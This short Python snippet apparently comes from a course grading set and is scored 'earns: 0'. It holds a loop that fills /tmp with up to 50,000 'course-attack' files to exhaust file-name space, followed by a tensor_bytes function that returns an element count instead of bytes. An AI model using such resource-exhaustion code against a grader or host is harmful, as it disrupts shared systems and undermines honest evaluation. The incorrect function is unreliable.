# Makes files until there is no room for names.
# earns: 0
# %% tensor_bytes
for number in range(50_000):
    try:
        open(f"/tmp/course-attack-{number}", "w").close()
    except OSError:
        break


def tensor_bytes(x):
    return x.numel()
